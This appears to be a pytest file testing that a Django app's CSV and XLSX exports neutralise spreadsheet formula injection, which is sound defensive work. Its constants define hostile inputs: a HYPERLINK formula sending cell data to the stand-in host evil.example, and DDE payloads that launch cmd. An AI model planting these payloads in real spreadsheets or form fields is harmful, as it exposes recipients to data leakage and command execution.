"""CSV/formula injection (issue 7 §2b): text imported or typed as `=…`, `+…`, `-…`, `@…` is
stored as text, and every spreadsheet export neutralises it (`impactnum.io.cells`): a leading
`'` in CSV, a text cell (never a formula) in XLSX. Numbers stay numbers, negative ones too.

Exports covered: the fleet CSV and XLSX, the project report XLSX and CSV, the plan evaluation
XLSX, the reuse report XLSX, the support sessions CSV, the open-data CSV, the ORDS CSV and the
AGEC declaration CSV.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from impactnum.io.cells import formula_like
from impactnum.web.fleet import declaration
from impactnum.web.fleet import services as fleet
from impactnum.web.plan.export import evaluation_xlsx
from impactnum.web.reuse import ords, support
from impactnum.web.reuse import services as reuse
from impactnum.web.territory import opendata

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"voir")'
EVIL_DDE = "=cmd|' /C calc'!A0"
PREFIXED = ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_safe(text: str, *evil: str) -> None:
    cells = csv_cells(text)
    for value in evil:
        assert "'" + value in cells, (value, cells)
    assert not [c for c in cells if formula_like(c)]


def xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_xlsx_safe(data: bytes, *evil: str) -> None:
    cells = xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for value in evil:
        found = [c for c in cells if c.value == value]
        assert found and all(c.data_type == "s" and c.quotePrefix for c in found), value


@pytest.fixture
def manager(city, make_user):
    return make_user("manager", city, username="camille")


# --- fleet export ---------------------------------------------------------------------------------


def test_fleet_exports_neutralise_text_and_keep_numbers(client, city, manager):
    fleet.create_asset(
        manager,
        city,
        kind="laptop",
        model=EVIL,
        manufacturer=PREFIXED[0],
        serial_number=PREFIXED[1],
        supplier=PREFIXED[2],
        assigned_to=EVIL_DDE,
        price_excl_vat=Decimal("850.00"),
        kwh_per_year=25.5,
    )
    client.force_login(manager)
    text = client.get(reverse("fleet:export", args=["csv"])).getvalue().decode()
    assert_csv_safe(text, EVIL, EVIL_DDE, *PREFIXED)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["price_excl_vat"] == "850.00" and row["kwh_per_year"] == "25.5"
    data = client.get(reverse("fleet:export", args=["xlsx"])).content
    assert_xlsx_safe(data, EVIL, EVIL_DDE)
    numbers = [c.value for c in xlsx_cells(data) if c.data_type == "n"]
    assert 850.0 in numbers and 25.5 in numbers


# --- project reports ------------------------------------------------------------------------------


def test_project_report_xlsx_and_csv_neutralise_names(client, city, manager):
    from impactnum.web.projects import services

    project = services.create_project(manager, city, name=EVIL, horizon_years=5)
    baseline = project.scenarios.get()
    services.add_line(manager, baseline, "equipment", label=EVIL_DDE, kind="laptop", quantity=3)
    services.add_scenario(manager, project, PREFIXED[2], copy_from=baseline)
    client.force_login(manager)
    data = client.get(reverse("reports:xlsx", args=[project.pk])).content
    assert_xlsx_safe(data, EVIL_DDE, PREFIXED[2])
    assert any(c.data_type == "n" and isinstance(c.value, float) for c in xlsx_cells(data))
    text = client.get(reverse("reports:csv", args=[project.pk])).content.decode()
    assert_csv_safe(text, PREFIXED[2])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert all(_number(r["value"]) for r in rows if r["value"])  # numbers stay numbers


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- plan, reuse, territory -----------------------------------------------------------------------


def test_plan_evaluation_xlsx_neutralises_titles():
    evaluation = SimpleNamespace(
        organisation=SimpleNamespace(name=EVIL), label=PREFIXED[0], month=None, comments=EVIL_DDE
    )
    commitment = {
        "reference": "E1",
        "title": EVIL,
        "theme": "",
        "source": "",
        "owner": PREFIXED[1],
        "progress": -5,
        "actions_done": 0,
        "actions_late": 0,
        "comment": "",
        "actions": [],
        "indicators": [],
    }
    data = evaluation_xlsx(evaluation, {"summary": {}, "commitments": [commitment]})
    assert_xlsx_safe(data, EVIL, EVIL_DDE, PREFIXED[0], PREFIXED[1])
    assert -5 in [c.value for c in xlsx_cells(data)]


def test_reuse_report_xlsx_and_csv_are_safe(client, city, manager):
    client.force_login(manager)
    for name in ("reuse:report-csv", "reuse:report-xlsx"):
        response = client.get(reverse(name), {"organisation": city.slug})
        assert response.status_code == 200, name
        if name.endswith("csv"):
            assert not [c for c in csv_cells(response.content.decode()) if formula_like(c)]
        else:
            assert not [c for c in xlsx_cells(response.content) if c.data_type == "f"]


def test_support_sessions_csv_neutralises_free_text(city, make_user):
    admin = make_user("administrator", city)
    reuse.record_support_session(
        admin,
        city,
        group_label="Atelier",
        group_size=4,
        date=dt.date(2026, 3, 6),
        minutes=45,
        themes=EVIL_DDE,
    )
    text = support.export_csv(admin, city, everyone=True)
    assert_csv_safe(text, EVIL_DDE)
    assert "45" in csv_cells(text)


def test_open_data_csv_neutralises_and_keeps_negative_numbers():
    row = {f: None for f in opendata.FIELDS}
    text_field = next(f for f in opendata.FIELDS if "nom" in f or "name" in f or "label" in f)
    number_field = next(f for f in opendata.FIELDS if f != text_field)
    row.update({text_field: EVIL, number_field: -12.5})
    text = opendata.to_csv([row])
    assert_csv_safe(text, EVIL)
    assert "-12.5" in csv_cells(text)


def test_ords_and_declaration_csv_go_through_the_guard(city, monkeypatch):
    evil_row = {column: "" for column in ords.ORDS_COLUMNS}
    evil_row[ords.ORDS_COLUMNS[1]] = EVIL
    evil_row[ords.ORDS_COLUMNS[2]] = -3
    monkeypatch.setattr(ords, "ords_rows", lambda *a, **k: [evil_row])
    text = ords.ords_csv(city)
    assert_csv_safe(text, EVIL)
    assert "-3" in csv_cells(text)
    row = declaration.DeclarationRow(
        2026, "21580194300014", EVIL_DDE, "informatique", *(Decimal("-1.50"),) * 4, PREFIXED[2]
    )
    monkeypatch.setattr(declaration, "declaration_rows", lambda *a: [row])
    text = declaration.declaration_csv(city, 2026)
    assert_csv_safe(text, EVIL_DDE, PREFIXED[2])
    assert "-1.50" in csv_cells(text)
